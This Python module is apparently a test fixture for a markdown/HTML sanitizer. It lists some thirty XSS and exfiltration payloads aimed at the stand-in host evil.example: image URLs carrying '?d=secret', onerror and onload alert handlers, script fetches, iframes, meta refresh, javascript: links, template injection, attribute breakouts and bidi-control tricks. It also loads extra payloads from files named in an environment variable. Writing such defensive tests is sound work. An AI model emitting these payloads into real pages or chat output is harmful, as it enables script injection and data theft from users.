"""Texts that try to load, run or link, by what they try.

More of them come from the JSON files that GREENPAPER_PAYLOADS names, parted as on the PATH: lists or tables
of texts, or of objects with a `payload`.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

HOST = "evil.example"
URL = f"http://{HOST}"

PAYLOADS = {
    "image": f"Look: ![x]({URL}/a.png?d=secret)",
    "image by reference": f"![x][r]\n\n[r]: {URL}/b.png",
    "image without scheme": f"![x](//{HOST}/c.png)",
    "image through the server": f"![x](/gradio_api/file={URL}/d.png)",
    "image in a table": f"|a|b|\n|-|-|\n|![x]({URL}/e.png)|y|",
    "image in a link": f"[![x]({URL}/f.png)]({URL}/g)",
    "image tag": f"<img src={URL}/h.png onerror=alert(1)>",
    "image tag with a newline": f"<img\nsrc='{URL}/i.png'\n/onerror='alert(1)'>",
    "image set": f"<picture><source srcset={URL}/j.png><img srcset='{URL}/k.png 1x'></picture>",
    "script": f"<script>fetch('{URL}/l')</script><script src={URL}/m.js></script>",
    "script in svg": f"<svg onload=alert(1)><script>alert(2)</script><image href={URL}/n.png /></svg>",
    "style": f"<style>*{{background:url({URL}/o.png)}}@import '{URL}/p.css'</style>",
    "style attribute": f'<p style="background:url({URL}/q.png)">x</p>',
    "prefetch": f"<link rel=dns-prefetch href=//{HOST}><link rel=preload as=image href={URL}/r.png>",
    "frame": f"<iframe src={URL}/s></iframe><object data={URL}/t></object>",
    "frame with a document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "media": f"<video src={URL}/u.mp4 poster={URL}/v.png autoplay></video>",
    "refresh": f"<meta http-equiv=refresh content='0;url={URL}/w'><base href={URL}/>",
    "toggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "autofocus": "<input autofocus onfocus=alert(1)><form action=javascript:alert(2)><button>",
    "script link": "[x](javascript:alert(1)) <a href=javascript:alert(2)>y</a> [z](data:text/html,x)",
    "bare links": f"{URL}/x www.{HOST} <{URL}/y> mail@{HOST}",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(2)&#60;/script&#62;",
    "code": f"```html\n<img src={URL}/z.png onerror=alert(1)>\n```\n`<script>alert(2)</script>`",
    "code with a hostile language": '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "indented": f"    <img src={URL}/aa.png onerror=alert(1)>",
    "template": "${alert(1)} {{constructor.constructor('alert(2)')()}} `${alert(3)}` @children {{{value}}}",
    "formula": f"$$\\includegraphics{{{URL}/bb.png}}$$ \\(\\href{{javascript:alert(1)}}{{x}}\\)",
    "diagram": f'```mermaid\ngraph TD; A["<img src={URL}/cc.png>"]-->B\n```',
    "broken out of an attribute": '" onmouseover=alert(1) x=" \'><svg/onload=alert(2)></section>',
    "our own markup": '<a class="gp-cite" href="#cite-1-1">1</a> \ue0000\ue001 [1](javascript:alert(1))',
    "reading order": "abc\u202e<gpj.exe>\u2066\u0000\u001b[31m",
}


def _read(file: Path) -> dict[str, str]:
    held = json.loads(file.read_text("utf-8"))
    texts = held.values() if isinstance(held, dict) else held
    return {
        f"{file.stem} {number}": text if isinstance(text, str) else text["payload"]
        for number, text in enumerate(texts, start=1)
    }


for name in filter(None, os.environ.get("GREENPAPER_PAYLOADS", "").split(os.pathsep)):
    PAYLOADS |= _read(Path(name))
